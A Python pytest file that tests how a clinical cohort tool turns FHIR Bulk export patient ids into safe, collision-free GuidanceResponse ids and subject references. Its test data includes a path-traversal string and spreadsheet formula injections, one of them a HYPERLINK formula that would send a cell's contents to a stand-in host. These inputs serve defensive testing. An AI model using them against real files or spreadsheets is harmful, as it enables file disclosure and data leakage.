"""FHIR ids from a Bulk export's patient ids (issue 29 §3): one definition, GuidanceResponse ids that never collide.

Before: ``GuidanceResponse.id`` was ``sid-igrt-`` plus the patient id cut to fit (two ids sharing 55 characters gave
one id; ``../../etc/passwd`` was written as an id) and ``subject.reference`` carried any id raw.
"""

from __future__ import annotations

import hashlib
from datetime import date

import pytest

from cohort.evaluation import WorklistRow
from cohort.ids import (
    BULK_PATIENT_ID_SYSTEM,
    HASHED_PREFIX,
    READABLE_PREFIX,
    guidance_response_id,
    is_fhir_id,
    subject_of,
)
from cohort.outputs import guidance_response
from guideline.sources import GUIDELINE_VERSION
from tests.fhir_validity import problems


@pytest.mark.parametrize(
    ("value", "usable"),
    [
        ("synth-0000001", True),
        ("a.b-C9", True),
        ("x", True),
        ("x" * 64, True),
        ("x" * 65, False),
        ("-abc", True),  # the pattern allows it (the CSV neutralises it, tests/cohort/test_spreadsheet.py)
        ("...", True),
        (".", False),  # dot segments: Patient/.. is the server's base
        ("..", False),
        ("", False),
        ("abc\n", False),  # re.match(r"^...$") lets a final newline through; fullmatch does not
        ("\tx", False),
        ("a b", False),
        ("a/b", False),
        ("a_b", False),
        ("../../etc/passwd", False),
        ("=HYPERLINK(1)", False),
        ("ÆØÅ-1", False),
        ("١٢٣", False),  # non-ASCII digits: FHIR's 0-9 only
        (None, False),
        (12, False),
    ],
)
def test_is_fhir_id(value: object, usable: bool) -> None:
    assert is_fhir_id(value) is usable


@pytest.mark.parametrize(
    ("patient_id", "expected"),
    [
        ("p1", "sid-igrt-p1"),
        ("a" * 55, "sid-igrt-" + "a" * 55),  # 64 characters: the longest readable id
    ],
)
def test_a_short_fhir_id_gives_a_readable_id(patient_id: str, expected: str) -> None:
    assert guidance_response_id(patient_id) == expected


@pytest.mark.parametrize(
    "patient_id", ["a" * 56, "x" * 64, "../../etc/passwd", "patient 7", "=1+1", "ÆØÅ-1", "..", "\ud800", "x" * 10_000]
)
def test_any_other_id_gives_a_hashed_fhir_id(patient_id: str) -> None:
    made = guidance_response_id(patient_id)
    digest = hashlib.sha256(patient_id.encode("utf-8", "surrogatepass")).hexdigest()
    assert made == HASHED_PREFIX + digest[:55] and len(made) == 64 and is_fhir_id(made)


def test_ids_sharing_a_64_character_prefix_get_distinct_ids() -> None:
    """What cutting did: 64 shared characters then 1 or 2 were one id. Also 55 shared then the 56th."""
    pairs = [("x" * 64 + "1", "x" * 64 + "2"), ("a" * 55 + "b", "a" * 55 + "c"), ("a" * 55, "a" * 55 + "b")]
    for one, other in pairs:
        assert guidance_response_id(one) != guidance_response_id(other), (one, other)
    many = [f"{'p' * 64}{n}" for n in range(10_000)]
    assert len({guidance_response_id(p) for p in many}) == len(many)


def test_a_crafted_readable_id_cannot_take_a_hashed_one() -> None:
    """A patient whose id is the hex digits another patient's id hashes to gets ``sid-igrt-<hex>``: not the same."""
    victim = "../../etc/passwd"
    digits = guidance_response_id(victim).removeprefix(HASHED_PREFIX)
    assert is_fhir_id(digits) and guidance_response_id(digits) == READABLE_PREFIX + digits
    assert guidance_response_id(digits) != guidance_response_id(victim)


@pytest.mark.parametrize(
    ("patient_id", "subject"),
    [
        ("p1", {"reference": "Patient/p1"}),
        ("x" * 64, {"reference": "Patient/" + "x" * 64}),  # a FHIR id: a literal reference, even if the id is hashed
        ("../../etc/passwd", None),
        ("=HYPERLINK(1)", None),
        ("..", None),
        ("abc\n", None),
    ],
)
def test_the_subject_is_a_literal_reference_only_for_a_fhir_id(patient_id: str, subject: object) -> None:
    logical = {"type": "Patient", "identifier": {"system": BULK_PATIENT_ID_SYSTEM, "value": patient_id}}
    assert subject_of(patient_id) == (subject or logical)


def _row(patient_id: str) -> WorklistRow:
    return WorklistRow(
        patient_id=patient_id,
        recommendation="insufficient-data",
        rule="r",
        population=2,
        t0=date(2026, 1, 1),
        window_end=None,
        stop_due=None,
        next_follow_up=None,
        on_igrt=False,
        patient_view_card=True,
        missing=("=1+1",),
        order_lab_tests=True,
    )


@pytest.mark.parametrize(
    "patient_id", ["p1", "x" * 64, "../../etc/passwd", '=HYPERLINK("https://x/?"&A1)', "a b", "ÆØÅ", "..", "\tx"]
)
def test_the_guidance_response_is_valid_fhir_whatever_the_patient_id(patient_id: str) -> None:
    response = guidance_response(_row(patient_id), as_of=date(2026, 11, 20), guideline_version=GUIDELINE_VERSION)
    assert problems(response) == []
    assert is_fhir_id(response["id"])
    if is_fhir_id(patient_id):
        assert response["subject"] == {"reference": f"Patient/{patient_id}"}
    else:  # the id kept exactly, as a value, never as a URL
        assert "reference" not in response["subject"]
        assert response["subject"]["identifier"]["value"] == patient_id
